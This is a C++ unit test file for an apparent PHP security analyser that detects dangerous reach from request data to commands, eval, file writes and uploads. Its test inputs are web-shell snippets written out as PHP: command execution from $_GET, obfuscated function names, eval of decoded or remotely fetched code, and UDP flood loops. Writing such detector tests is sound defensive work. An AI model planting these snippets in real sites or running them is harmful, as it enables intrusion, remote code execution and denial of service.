#include "audit/php_reach.h"

#include <gtest/gtest.h>

#include <string>

namespace culprit::audit {
namespace {

// The acts by name; '?' where the way is only likely. Support is left out.
std::string acts(const std::string& body) {
  Tokens t;
  const std::string source = "<?php " + body;
  read_php(source, t);
  std::string out;
  for (const Fact& f : php_reach(t).facts)
    if (*capability(f.act) != '\0')
      out += std::string(out.empty() ? "" : " ") + name(f.act) + (f.weak ? "?" : "");
  return out;
}

TEST(PhpReach, RequestToCommand) {
  EXPECT_EQ(acts("system($_GET['c']);"), "command-request");
  EXPECT_EQ(acts("$a = trim($_POST['c']); $b = $a; echo shell_exec($b);"), "command-request");
  EXPECT_EQ(acts("exec('ping ' . $_GET['h']);"), "command-argument");
  EXPECT_EQ(acts("echo `$_GET[0]`;"), "command-request");
  EXPECT_EQ(acts("exec('ping ' . escapeshellarg($_GET['h']));"), "");
  EXPECT_EQ(acts("exec('ls ' . (int)$_GET['n']);"), "");
  EXPECT_EQ(acts("system('uptime');"), "");
}

TEST(PhpReach, ThroughFunctionsMethodsAndClosures) {
  EXPECT_EQ(acts("function r($x) { passthru($x); } r($_GET['c']);"), "command-request");
  EXPECT_EQ(acts("class A { static function r($x) { exec($x); } } A::r($_COOKIE['c']);"), "command-request");
  EXPECT_EQ(acts("function v($x) { return trim($x); } eval(v($_POST['c']));"), "eval-request");
  EXPECT_EQ(acts("$f = function ($x) { system($x); }; $f($_GET['c']);"), "command-request");
  EXPECT_EQ(acts("array_map(fn($x) => system($x), $_GET);"), "command-request");
  EXPECT_EQ(acts("function r($x) { system($x); } r('date');"), "");
}

TEST(PhpReach, NamesPutTogether) {
  EXPECT_EQ(acts("$f = 'ass' . 'ert'; $f($_POST['x']);"), "eval-request built-name");
  EXPECT_EQ(acts("$s = 'abcdefghijklmnopqrstuvwxyz'; $f = $s[4].$s[23].$s[4].$s[2]; $f($_GET['c']);"),
            "command-request built-name");
  EXPECT_EQ(acts("$f = ~'\x8c\x86\x8c\x8b\x9a\x92'; $f(${~'\xa0\xaf\xb0\xac\xab'}[0]);"),
            "command-request built-name");
  EXPECT_EQ(acts("${'_PO'.'ST'}['x'](1);"), "call-request?");
  EXPECT_EQ(acts("$f = 'strtolower'; $f($_POST['x']);"), "");
}

TEST(PhpReach, DecodedAndRemoteCode) {
  EXPECT_EQ(acts("eval(base64_decode('ZWNobyAxOw=='));"), "eval-decoded");
  EXPECT_EQ(acts("eval(base64_decode('c3lzdGVtKCRfR0VUWzBdKTs='));"), "command-request eval-decoded");
  EXPECT_EQ(acts("eval(file_get_contents('http://192.0.2.1/x'));"), "eval-remote");
  EXPECT_EQ(acts("eval(substr(file_get_contents(__FILE__), 90));"), "eval-self");
  EXPECT_EQ(acts("eval('return 1;');"), "");
}

TEST(PhpReach, FloodNeedsDatagramsALoopAndAGivenAddress) {
  EXPECT_EQ(acts("$h = $_GET['host']; while (1) { $f = fsockopen('udp://'.$h, 80); fwrite($f, 'X'); }"),
            "udp-flood");
  EXPECT_EQ(acts("$f = fsockopen('udp://'.$_GET['h'], 80); for (;;) fwrite($f, 'X');"), "udp-flood");
  EXPECT_EQ(acts("function go($h) { $s = fsockopen(\"udp://$h\", 1); fwrite($s, 'x'); } while (1) "
                 "go($_POST['ip']);"),
            "udp-flood");
  // statsd: a fixed address; one datagram for a given one.
  EXPECT_EQ(acts("foreach ($m as $x) { $f = fsockopen('udp://127.0.0.1', 8125); fwrite($f, $x); }"), "");
  EXPECT_EQ(acts("$f = fsockopen('udp://'.$_GET['h'], 80); fwrite($f, 'X');"), "");
}

TEST(PhpReach, UploadsAndFiles) {
  EXPECT_EQ(acts("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"), "upload-anywhere");
  EXPECT_EQ(acts("move_uploaded_file($_FILES['f']['tmp_name'], 'data/' . $id . '.jpg');"), "");
  EXPECT_EQ(acts("file_put_contents($_GET['n'], $_POST['d']);"), "write-request");
  EXPECT_EQ(acts("$h = fopen('x.php', 'w'); fputs($h, file_get_contents('http://192.0.2.1/a'));"),
            "write-remote");
  EXPECT_EQ(acts("file_put_contents('counter.txt', $_GET['n']);"), "");
}

TEST(PhpReach, OrdinaryThings) {
  EXPECT_EQ(acts("if (in_array($_GET['p'], ['a', 'b'])) include 'pages/' . $_GET['p'] . '.php';"),
            "include-request?");
  EXPECT_EQ(acts("include __DIR__ . '/config.php'; $x = $_GET['y'] ?? 1; echo htmlspecialchars($x);"), "");
  EXPECT_EQ(acts("assert(isset($_GET['x'])); assert($_GET['n'] > 3);"), "");
  EXPECT_EQ(acts("usort($rows, 'strcmp'); array_map('trim', $_POST['names']);"), "");
  EXPECT_EQ(acts("mail('me@example.com', 'form', $_POST['text']);"), "");
}

TEST(PhpReach, EndlessNestingEnds) {
  const std::string open(5000, '('), square(5000, '['), braces(5000, '{');
  EXPECT_EQ(acts("eval(" + open), "");
  EXPECT_EQ(acts("eval(" + square), "");
  EXPECT_EQ(acts("eval(1);" + braces), "");
  std::string chain = "eval($a";
  for (int i = 0; i < 5000; ++i) chain += "?1:$a";
  acts(chain);
  acts("eval(" + std::string(5000, '!'));
  acts("eval(" + std::string(5000, '@'));
  acts("eval($$" + std::string(5000, '$'));
  acts("function f() { return f(); } eval(f());");
}

}  // namespace
}  // namespace culprit::audit
